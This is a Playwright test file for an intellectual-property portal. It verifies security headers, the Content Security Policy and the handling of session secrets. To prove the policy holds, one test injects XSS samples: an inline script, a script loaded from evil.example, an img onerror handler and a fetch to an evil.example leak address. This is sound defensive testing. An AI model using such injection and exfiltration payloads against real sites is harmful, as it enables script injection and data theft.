import { openPage, PAGES } from '../support/pages';
import { expect, test } from '../support/portal';

test('the page has its security headers and no inline script', async ({ portal, request }) => {
  for (const path of ['', 'changshu/searching/patent?q=1', 'changshu/user/login', 'index.html']) {
    const answer = await request.get(`${portal.url}${path}`);
    const headers = answer.headers();
    const policy = new Map(
      (headers['content-security-policy'] ?? '').split(';').map((part) => {
        const [name = '', ...values] = part.trim().split(/\s+/);
        return [name, values] as const;
      }),
    );
    expect(policy.get('default-src')).toEqual(["'self'"]);
    expect(policy.get('script-src')).toEqual(["'self'"]);
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    expect(policy.get('style-src-attr')).toEqual(["'none'"]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'self'"]);
    expect(policy.get('form-action')).toEqual(["'self'"]);
    expect(policy.has('frame-ancestors')).toBe(true);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(headers['permissions-policy']).toContain('camera=()');
    expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups');
    expect(headers['cross-origin-resource-policy']).toBe('same-origin');
    expect(headers['x-frame-options']).toBe('SAMEORIGIN');
    expect(headers['cache-control']).toBe('no-cache');
    expect(headers.server).toBe('nginx');

    const html = await answer.text();
    const scripts = html.match(/<script\b[^>]*>[^<]*/g) ?? [];
    expect(scripts.length).toBeGreaterThan(0);
    for (const script of scripts) expect(script).toMatch(/^<script [^>]*src="\/ipr-front\/[^>]*>$/);
    expect(html).not.toMatch(/\son\w+\s*=/);
    expect(html).not.toContain('javascript:');
  }
});

test('the policy is in force: script from the page or from elsewhere does not run', async ({
  page,
  portal,
}) => {
  const asked: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'document.title = "run"' });
  });
  await portal.open('changshu/user/login');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('登录');
  await page.evaluate(async () => {
    const inline = document.createElement('script');
    inline.textContent = 'document.title = "run"';
    const outer = document.createElement('script');
    outer.src = 'https://evil.example/x.js';
    const attribute = document.createElement('div');
    attribute.innerHTML = '<img src="data:," onerror="document.title = \'run\'">';
    document.body.append(inline, outer, attribute);
    await fetch('https://evil.example/leak').catch(() => undefined);
    await new Promise((done) => setTimeout(done, 300));
  });
  await expect(page).toHaveTitle('登录 - 示例市知识产权公共服务平台');
  expect(asked).toEqual([]);
});

for (const name of [
  'login',
  'patent result with charts, one of them chosen from',
  'request of PJSQ',
  'form of WDXPJ',
  'statistics of counties',
]) {
  test(`the policy forbids style attributes, and “${name}” needs none`, async ({
    page,
    portal,
  }) => {
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample }) => {
        (window as { violated?: string[] }).violated?.push(`${effectiveDirective} ${sample}`);
      });
      (window as { violated?: string[] }).violated = [];
    });
    const target = PAGES.find((one) => one.name === name);
    if (!target) throw new Error(`No page is called ${name}`);
    await openPage(page, portal, target);
    const violated = () => page.evaluate(() => (window as { violated?: string[] }).violated);
    expect(await violated()).toEqual([]);
    const colour = await page.evaluate(() => {
      const outside = document.createElement('p');
      outside.innerHTML = '<span style="color: rgb(1, 2, 3)">外来的样式</span>';
      document.body.append(outside);
      return getComputedStyle(outside.firstElementChild as Element).color;
    });
    expect(colour).not.toBe('rgb(1, 2, 3)');
    await expect.poll(violated).toEqual(['style-src-attr ']);
  });
}

test('no address and no store of the browser holds a secret of the session', async ({
  page,
  portal,
}) => {
  const addresses: string[] = [];
  page.on('request', (request) => addresses.push(request.url()));
  await portal.open('changshu/user/login');
  await portal.logIn();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('专利导航与检索');
  await page.waitForLoadState('networkidle');
  const session = (await page.context().cookies()).find(({ name }) => name === 'IPRSESSION');
  if (!session) throw new Error('no session');
  expect(session).toMatchObject({ httpOnly: true, sameSite: 'Lax' });
  const kept = await page.evaluate(() => JSON.stringify([localStorage, sessionStorage]));
  for (const secret of [session.value, 'Enterprise2026', '13000000002']) {
    expect(kept).not.toContain(secret);
    expect(addresses.join('\n')).not.toContain(secret);
    expect(await page.content()).not.toContain(secret);
  }
});
